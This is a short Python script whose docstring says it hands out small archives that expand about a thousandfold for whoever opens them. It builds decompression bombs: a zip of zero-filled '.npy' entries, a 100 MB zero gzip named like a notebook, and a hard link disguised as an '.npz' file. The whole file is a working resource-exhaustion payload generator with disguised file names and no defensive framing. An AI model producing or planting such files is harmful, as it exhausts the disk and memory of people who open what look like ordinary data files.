"""Hands in small archives that unpack to a thousand times their size, for whoever opens them."""

import gzip
import zipfile
from pathlib import Path


def folder(path: Path) -> None:
    block = bytes(1 << 20)
    with zipfile.ZipFile(path / "data.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(40):
            archive.writestr(f"{number}.npy", block)
    with gzip.open(path / "lab.ipynb.gz", "wb") as file:
        for _ in range(100):
            file.write(block)
    (path / "lab.npz").hardlink_to(path / "data.zip")
